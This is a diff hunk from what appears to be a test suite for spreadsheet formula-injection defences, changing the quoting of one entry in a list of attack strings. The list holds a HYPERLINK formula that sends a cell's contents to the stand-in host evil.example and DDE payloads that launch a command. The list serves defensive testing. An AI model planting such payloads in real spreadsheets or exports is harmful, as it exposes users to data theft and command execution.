@@ -12,7 +12,7 @@ from ingest.results import FORMULA_PREFIXES, safe_cell
 from tests.bad_input.conftest import import_bytes
 
 ATTACKS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-2+3",
